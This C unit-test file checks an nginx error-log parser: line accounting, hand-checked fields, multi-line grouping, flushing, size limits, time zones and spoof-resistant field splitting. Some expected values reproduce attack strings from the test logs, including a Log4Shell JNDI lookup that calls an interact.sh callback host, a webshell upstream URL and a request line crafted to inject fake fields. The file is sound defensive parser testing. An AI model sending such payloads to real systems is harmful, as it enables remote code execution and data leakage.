/* test_parser_nginx_error.c — format = nginx_error (plugins/parser_nginx):
 * every real error log in the shared test data is accounted for (the
 * records' messages, split at '\n', give back the file's lines in order),
 * fields hand-checked against the files, continuation lines grouped and
 * held (pending_offset) until the next event or the idle flush, a group's
 * size bound, local times read in the agent's time zone, and a context that
 * the request itself tries to imitate. */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "log_parser.h"
#include "mem.h"
#include "parser_nginx.h"

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))
#define ERROR_DIR    TW_TESTDATA_DIR "/logs/nginx-error"
#define READ_MS      INT64_C(1700000000000)
#define TIMEOUT_MS   500

/* ---- records kept past the emit callback ------------------------------- */

typedef struct saved_record {
    char *message;
    size_t message_len;
    int64_t timestamp_ms;
    uint64_t offset, end;
    bool parsed;
    unsigned n_fields;
    struct {
        char *name, *value;
    } fields[TW_LOG_MAX_FIELDS];
} saved_record;

typedef struct collector {
    saved_record *records;
    size_t n, cap;
} collector;

static void collect(void *ctx, const tw_log_record *r)
{
    collector *c = ctx;
    if (c->n == c->cap) {
        c->cap = c->cap ? c->cap * 2 : 64;
        c->records = tw_realloc(c->records, c->cap * sizeof *c->records);
    }
    saved_record *s = &c->records[c->n++];
    s->message = tw_memdup(r->message, r->message_len);
    s->message_len = r->message_len;
    s->timestamp_ms = r->timestamp_ms;
    s->offset = r->offset;
    s->end = r->end;
    s->parsed = r->parsed;
    s->n_fields = r->n_fields;
    for (unsigned i = 0; i < r->n_fields; i++) {
        s->fields[i].name = tw_strdup(r->fields[i].name);
        s->fields[i].value = tw_memdup(r->fields[i].value, r->fields[i].len);
    }
}

static void collector_free(collector *c)
{
    for (size_t i = 0; i < c->n; i++) {
        free(c->records[i].message);
        for (unsigned f = 0; f < c->records[i].n_fields; f++) {
            free(c->records[i].fields[f].name);
            free(c->records[i].fields[f].value);
        }
    }
    free(c->records);
    *c = (collector){NULL, 0, 0};
}

static const char *field(const saved_record *r, const char *name)
{
    for (unsigned i = 0; i < r->n_fields; i++)
        if (strcmp(r->fields[i].name, name) == 0)
            return r->fields[i].value;
    return NULL;
}

/* "name=value" must be there exactly, "!name" must be absent. */
static void assert_fields(const saved_record *r, const char *const *expected, const char *where)
{
    for (size_t i = 0; expected[i] != NULL; i++) {
        const char *e = expected[i];
        if (e[0] == '!') {
            if (field(r, e + 1) != NULL)
                fail_msg("%s: field %s should be absent, is \"%s\"", where, e + 1, field(r, e + 1));
            continue;
        }
        const char *eq = strchr(e, '=');
        char name[64];
        snprintf(name, sizeof name, "%.*s", (int)(eq - e), e);
        const char *got = field(r, name);
        if (got == NULL || strcmp(got, eq + 1) != 0)
            fail_msg("%s: field %s is \"%s\", expected \"%s\"", where, name, got ? got : "(absent)",
                     eq + 1);
    }
}

/* ---- a parser fed as the tail would ------------------------------------ */

static void *create(void)
{
    tw_log_parser_options options = {.section = "test", .group_timeout_ms = TIMEOUT_MS};
    void *state = NULL;
    assert_int_equal(tw_parser_nginx_error.create(&options, &state, NULL), 0);
    return state;
}

static void feed(void *p, const char *text, size_t len, uint64_t offset, int64_t read_ms,
                 collector *c)
{
    tw_log_line line = {text, len, offset, offset + len + 1, read_ms, false};
    tw_parser_nginx_error.feed(p, &line, collect, c);
}

static void flush_all(void *p, collector *c)
{
    tw_parser_nginx_error.flush(p, READ_MS, true, collect, c);
    assert_int_equal(tw_parser_nginx_error.pending_offset(p), TW_LOG_NO_PENDING);
}

static char *read_file(const char *name, size_t *size)
{
    char path[512];
    snprintf(path, sizeof path, "%s/%s", ERROR_DIR, name);
    FILE *f = fopen(path, "rb");
    if (f == NULL)
        fail_msg("cannot open %s", path);
    char *data = NULL;
    size_t cap = 0, got;
    *size = 0;
    do {
        if (*size + 4096 > cap)
            data = tw_realloc(data, cap = (cap + 4096) * 2);
        got = fread(data + *size, 1, 4096, f);
        *size += got;
    } while (got > 0);
    fclose(f);
    return data;
}

/* Feeds a file line by line, then flushes; returns the number of lines. */
static size_t parse_file(const char *name, collector *c)
{
    size_t size, n = 0;
    char *data = read_file(name, &size);
    void *p = create();
    for (size_t at = 0; at < size; n++) {
        char *nl = memchr(data + at, '\n', size - at);
        size_t end = nl ? (size_t)(nl - data) : size;
        feed(p, data + at, end - at, at, READ_MS, c);
        at = end + 1;
    }
    flush_all(p, c);
    tw_parser_nginx_error.destroy(p);
    free(data);
    return n;
}

/* ---- every file, every line -------------------------------------------- */

static const struct error_file {
    const char *name;
    size_t lines, records;
} error_files[] = {
    /* A PHP-FPM message over three lines. */
    {"beats-nginx-error.log", 6, 4},
    {"crowdsec-modsecurity-logs-nginx.log", 8, 8},
    /* Two access-log lines, which start with no time, follow an event. */
    {"crowdsec-nginx-mail-logs.log", 17, 15},
    {"crowdsec-nginx_req_limit_exceeded.log", 9, 9},
};

/* The records, in order, hold the file's lines: their messages joined with
 * '\n' are the file (less its final newline), and their offsets tile it. */
static void check_accounting(const char *name, const collector *c)
{
    size_t size;
    char *data = read_file(name, &size);
    size_t at = 0;
    for (size_t i = 0; i < c->n; i++) {
        const saved_record *r = &c->records[i];
        assert_int_equal(r->offset, at);
        if (r->message_len > size - at || memcmp(r->message, data + at, r->message_len) != 0)
            fail_msg("%s: record %zu is not the file's text at %zu", name, i, at);
        at += r->message_len;
        assert_int_equal(r->end, at + 1);
        at++;
        if (!r->parsed) {
            assert_int_equal(r->n_fields, 0);
            assert_int_equal(r->timestamp_ms, READ_MS);
        }
    }
    assert_true(at == size || at == size + 1);
    free(data);
}

static void test_every_error_log_line_is_accounted_for(void **state)
{
    (void)state;
    DIR *dir = opendir(ERROR_DIR);
    assert_non_null(dir);
    size_t known = 0;
    struct dirent *e;
    while ((e = readdir(dir)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        collector c = {NULL, 0, 0};
        size_t lines = parse_file(e->d_name, &c);
        check_accounting(e->d_name, &c);
        size_t parsed = 0;
        for (size_t i = 0; i < c.n; i++)
            parsed += c.records[i].parsed;
        print_message("%-40s %3zu lines, %3zu records, %3zu parsed\n", e->d_name, lines, c.n,
                      parsed);
        for (size_t i = 0; i < COUNT(error_files); i++) {
            if (strcmp(error_files[i].name, e->d_name) != 0)
                continue;
            assert_int_equal(lines, error_files[i].lines);
            assert_int_equal(c.n, error_files[i].records);
            assert_int_equal(parsed, c.n);
            known++;
        }
        collector_free(&c);
    }
    closedir(dir);
    assert_int_equal(known, COUNT(error_files));
}

/* ---- hand-checked events ------------------------------------------------ */

typedef struct expected_event {
    const char *file;
    size_t record; /* 0-based */
    int64_t timestamp_ms;
    const char *fields[20];
} expected_event;

static const expected_event expected_events[] = {
    {"beats-nginx-error.log", 0, INT64_C(1477406974000),
     {"time=2016/10/25 14:49:34", "level=error", "pid=54053", "tid=0", "connection=1",
      "message=open() \"/usr/local/Cellar/nginx/1.10.2_1/html/favicon.ico\" failed (2: No such "
      "file or directory)",
      "client=127.0.0.1", "server=localhost", "request=GET /favicon.ico HTTP/1.1", "method=GET",
      "path=/favicon.ico", "protocol=HTTP/1.1", "host=localhost:8080",
      "referrer=http://localhost:8080/", "!upstream", NULL}},
    {"beats-nginx-error.log", 3, INT64_C(1572965444000),
     {"connection=3", "request=GET /pysio HTTP/1.1", "path=/pysio", "!referrer", NULL}},
    {"crowdsec-nginx_req_limit_exceeded.log", 0, INT64_C(1638445995000),
     {"pid=4065777", "tid=4065777", "connection=42952950",
      "message=limiting requests, excess: 5.428 by zone \"default_root_zone\"", "client=::1",
      "!server", "request=GET / HTTP/1.1", "host=la03.d.sb", NULL}},
    /* An absolute-form request line without a version. */
    {"crowdsec-nginx_req_limit_exceeded.log", 7, INT64_C(1659026220000),
     {"connection=16670560058", "client=192.168.1.1", "server=example.com",
      "request=POST https://example.com/12&3.html", "method=POST",
      "path=https://example.com/12&3.html", "!protocol", "host=example.com",
      "referrer=https://example.com/12&3.html?referrer=/", NULL}},
    {"crowdsec-nginx-mail-logs.log", 0, INT64_C(1648914323000),
     {"level=info", "pid=8", "tid=8", "connection=15950",
      "message=client 172.77.77.254:53044 connected to 0.0.0.0:25", "!client", NULL}},
    {"crowdsec-nginx-mail-logs.log", 2, INT64_C(1648914325000),
     {"message=client login failed: \"AUTH not supported\" while in http auth state",
      "client=5.34.207.182", "server=0.0.0.0:25", "login=servers@example.com", NULL}},
    {"crowdsec-nginx-mail-logs.log", 3, INT64_C(1649133957000),
     {"message=directory index of \"/static/\" is forbidden", "client=34.77.162.21", "!server",
      "request=GET / HTTP/1.1", "host=mail.example.com", NULL}},
    /* Mail's upstream is not quoted. */
    {"crowdsec-nginx-mail-logs.log", 9, INT64_C(1649165131000),
     {"message=client logged in", "client=174.233.1.144", "server=0.0.0.0:11587",
      "login=admin@example.com", "upstream=172.69.69.9:10025", NULL}},
    {"crowdsec-nginx-mail-logs.log", 14, INT64_C(1680728442000),
     {"pid=126", "connection=175063", "client=201.170.64.255", "server=0.0.0.0:587",
      "login=postmaster", NULL}},
    {"crowdsec-modsecurity-logs-nginx.log", 5, INT64_C(1640522211000),
     {"level=error", "pid=972", "connection=18722", "client=161.97.102.240",
      "server=42.42.42.42",
      "path=/?x=${jndi:ldap://${hostName}.c72643ci97rd1ek9i7u0c8rf8iejf6fk6.interact.sh/a}",
      "host=hostname.domain:443",
      "referrer=${jndi:ldap://${hostName}.referer.c72643ci97rd1ek9i7u0c8rf8iejf6fms.interact.sh}",
      NULL}},
    {"crowdsec-modsecurity-logs-nginx.log", 7, INT64_C(1761594466000),
     {"client=1.1.1.1", "server=example.com", "protocol=HTTP/2.0",
      "upstream=https://2.2.2.2:443/evil-webshell.txt", "host=example.com", NULL}},
};

static void test_hand_checked_fields(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT(expected_events); i++) {
        const expected_event *x = &expected_events[i];
        collector c = {NULL, 0, 0};
        parse_file(x->file, &c);
        assert_true(x->record < c.n);
        const saved_record *r = &c.records[x->record];
        char where[128];
        snprintf(where, sizeof where, "%s record %zu", x->file, x->record);
        if (!r->parsed || r->timestamp_ms != x->timestamp_ms)
            fail_msg("%s: parsed %d, timestamp %lld, expected %lld", where, r->parsed,
                     (long long)r->timestamp_ms, (long long)x->timestamp_ms);
        assert_fields(r, x->fields, where);
        collector_free(&c);
    }
}

static void test_fastcgi_message_over_three_lines_is_one_event(void **state)
{
    (void)state;
    collector c = {NULL, 0, 0};
    parse_file("beats-nginx-error.log", &c);
    const saved_record *r = &c.records[2];
    assert_true(r->parsed);
    const char *message = field(r, "message");
    assert_non_null(message);
    static const char start[] = "FastCGI sent in stderr: \"PHP message: PHP Warning:  Declaration "
                                "of FEE_Field_Terms::wrap(";
    assert_memory_equal(message, start, sizeof start - 1);
    const char *second = strchr(message, '\n');
    assert_non_null(second);
    static const char next[] = "\nPHP message: PHP Warning:  Declaration of FEE_Field_Tags";
    assert_memory_equal(second, next, sizeof next - 1);
    const char *third = strchr(second + 1, '\n');
    assert_non_null(third);
    assert_null(strchr(third + 1, '\n'));
    assert_string_equal(field(r, "connection"), "180289");
    assert_null(field(r, "client"));
    /* The record spans the three lines. */
    assert_int_equal(r->offset, c.records[1].end);
    assert_int_equal(r->end, c.records[3].offset);
    collector_free(&c);
}

/* ---- holding, flushing -------------------------------------------------- */

static void test_events_are_held_until_the_next_or_an_idle_flush(void **state)
{
    (void)state;
    static const char first[] = "2024/01/02 03:04:05 [error] 1#2: *3 PHP says: \"one";
    static const char more[] = "two\"";
    static const char next[] = "2024/01/02 03:04:06 [warn] 1#2: *4 next";
    collector c = {NULL, 0, 0};
    void *p = create();
    assert_int_equal(tw_parser_nginx_error.pending_offset(p), TW_LOG_NO_PENDING);
    feed(p, first, strlen(first), 100, 1000, &c);
    feed(p, more, strlen(more), 100 + sizeof first, 1100, &c);
    assert_int_equal(c.n, 0);
    assert_int_equal(tw_parser_nginx_error.pending_offset(p), 100);

    /* Idle for exactly the timeout is not yet idle past it. */
    tw_parser_nginx_error.flush(p, 1100 + TIMEOUT_MS, false, collect, &c);
    assert_int_equal(c.n, 0);
    tw_parser_nginx_error.flush(p, 1100 + TIMEOUT_MS + 1, false, collect, &c);
    assert_int_equal(c.n, 1);
    assert_string_equal(c.records[0].message, "2024/01/02 03:04:05 [error] 1#2: *3 PHP says: "
                                              "\"one\ntwo\"");
    assert_int_equal(c.records[0].offset, 100);
    assert_int_equal(c.records[0].end, 100 + sizeof first + sizeof more);
    assert_int_equal(tw_parser_nginx_error.pending_offset(p), TW_LOG_NO_PENDING);

    /* A late continuation has no event to join: it goes out alone. */
    feed(p, more, strlen(more), 500, 2000, &c);
    assert_int_equal(c.n, 2);
    assert_false(c.records[1].parsed);
    assert_int_equal(c.records[1].timestamp_ms, 2000);

    /* The next event's first line sends the held one. */
    feed(p, first, strlen(first), 600, 3000, &c);
    feed(p, next, strlen(next), 700, 3001, &c);
    assert_int_equal(c.n, 3);
    assert_string_equal(c.records[2].message, first);
    assert_int_equal(tw_parser_nginx_error.pending_offset(p), 700);
    flush_all(p, &c);
    assert_int_equal(c.n, 4);
    assert_string_equal(field(&c.records[3], "level"), "warn");
    tw_parser_nginx_error.destroy(p);
    collector_free(&c);
}

static void test_a_group_never_outgrows_one_cloudwatch_event(void **state)
{
    (void)state;
    const size_t big = 100 * 1024;
    char *line = tw_malloc(big);
    memset(line, 'x', big);
    static const char first[] = "2024/01/02 03:04:05 [error] 1#2: *3 stack:";
    collector c = {NULL, 0, 0};
    void *p = create();
    feed(p, first, strlen(first), 0, 1000, &c);
    for (int i = 0; i < 3; i++)
        feed(p, line, big, 1000 + (uint64_t)i * (big + 1), 1000, &c);
    /* Two continuation lines fit; the third would pass 256 KiB. */
    assert_int_equal(c.n, 2);
    assert_true(c.records[0].parsed);
    assert_int_equal(c.records[0].message_len, strlen(first) + 2 * (big + 1));
    assert_false(c.records[1].parsed);
    assert_int_equal(c.records[1].message_len, big);
    assert_int_equal(tw_parser_nginx_error.pending_offset(p), TW_LOG_NO_PENDING);
    tw_parser_nginx_error.destroy(p);
    collector_free(&c);
    free(line);
}

/* ---- times, odd lines ---------------------------------------------------- */

static int64_t time_in_zone(const char *tz, const char *text)
{
    setenv("TZ", tz, 1);
    tzset();
    collector c = {NULL, 0, 0};
    void *p = create();
    feed(p, text, strlen(text), 0, READ_MS, &c);
    flush_all(p, &c);
    tw_parser_nginx_error.destroy(p);
    assert_int_equal(c.n, 1);
    int64_t ms = c.records[0].parsed ? c.records[0].timestamp_ms : -1;
    collector_free(&c);
    setenv("TZ", "UTC", 1);
    tzset();
    return ms;
}

static void test_times_are_read_in_the_local_time_zone(void **state)
{
    (void)state;
    const int64_t hour = INT64_C(3600000);
    const char *summer = "2021/07/01 12:00:00 [error] 1#1: x";
    const char *winter = "2021/01/01 12:00:00 [error] 1#1: x";
    assert_int_equal(time_in_zone("UTC", summer), INT64_C(1625140800000));
    /* POSIX TZ: "UTC-3" is three hours east of Greenwich. */
    assert_int_equal(time_in_zone("ABC-3", summer), INT64_C(1625140800000) - 3 * hour);
    assert_int_equal(time_in_zone("EST5EDT,M3.2.0,M11.1.0", summer),
                     INT64_C(1625140800000) + 4 * hour);
    assert_int_equal(time_in_zone("EST5EDT,M3.2.0,M11.1.0", winter),
                     INT64_C(1609502400000) + 5 * hour);
    /* A date that does not exist is no time: the line goes out unparsed. */
    assert_int_equal(time_in_zone("UTC", "2021/02/30 12:00:00 [error] 1#1: x"), -1);
}

static void test_lines_that_are_not_events(void **state)
{
    (void)state;
    static const char *const lines[] = {
        "continuation with nothing before it",
        "2024/01/02 03:04:05 no level here",
        "2024/01/02 03:04:05 [error] 12: no pid#tid",
        "2024/1/02 03:04:05 [error] 1#1: short month",
    };
    collector c = {NULL, 0, 0};
    void *p = create();
    for (size_t i = 0; i < COUNT(lines); i++)
        feed(p, lines[i], strlen(lines[i]), i * 100, READ_MS, &c);
    flush_all(p, &c);
    tw_parser_nginx_error.destroy(p);
    /* The short-month line does not start an event: it continues the one
     * before it, which did not parse anyway. */
    assert_int_equal(c.n, 3);
    for (size_t i = 0; i < c.n; i++) {
        assert_false(c.records[i].parsed);
        assert_int_equal(c.records[i].n_fields, 0);
        assert_int_equal(c.records[i].timestamp_ms, READ_MS);
    }
    assert_string_equal(c.records[2].message, "2024/01/02 03:04:05 [error] 12: no pid#tid\n"
                                              "2024/1/02 03:04:05 [error] 1#1: short month");
    collector_free(&c);
}

/* A request or an upstream URL holding ", host: " or ", client: " does not
 * move the fields: quoted values close where the next key opens. */
static void test_context_inside_a_request_is_not_the_context(void **state)
{
    (void)state;
    static const char line[] =
        "2024/01/02 03:04:05 [error] 7#7: *9 upstream timed out (110: Connection timed out) "
        "while reading response header from upstream, client: 10.0.0.1, server: shop, "
        "request: \"GET /q?a=, host: \"x\", client: 6.6.6.6 HTTP/1.1\", "
        "upstream: \"http://127.0.0.1:8080/q?a=, host: \"x\"\", host: \"shop.example\"";
    collector c = {NULL, 0, 0};
    void *p = create();
    feed(p, line, strlen(line), 0, READ_MS, &c);
    flush_all(p, &c);
    tw_parser_nginx_error.destroy(p);
    static const char *const want[] = {
        "message=upstream timed out (110: Connection timed out) while reading response header "
        "from upstream",
        "client=10.0.0.1", "server=shop",
        "request=GET /q?a=, host: \"x\", client: 6.6.6.6 HTTP/1.1", "method=GET",
        "path=/q?a=, host: \"x\", client: 6.6.6.6", "protocol=HTTP/1.1",
        "upstream=http://127.0.0.1:8080/q?a=, host: \"x\"", "host=shop.example", NULL};
    assert_fields(&c.records[0], want, "tricky");
    collector_free(&c);
}

static int set_utc(void **state)
{
    (void)state;
    setenv("TZ", "UTC", 1);
    tzset();
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_every_error_log_line_is_accounted_for),
        cmocka_unit_test(test_hand_checked_fields),
        cmocka_unit_test(test_fastcgi_message_over_three_lines_is_one_event),
        cmocka_unit_test(test_events_are_held_until_the_next_or_an_idle_flush),
        cmocka_unit_test(test_a_group_never_outgrows_one_cloudwatch_event),
        cmocka_unit_test(test_times_are_read_in_the_local_time_zone),
        cmocka_unit_test(test_lines_that_are_not_events),
        cmocka_unit_test(test_context_inside_a_request_is_not_the_context),
    };
    return cmocka_run_group_tests(tests, set_utc, NULL);
}
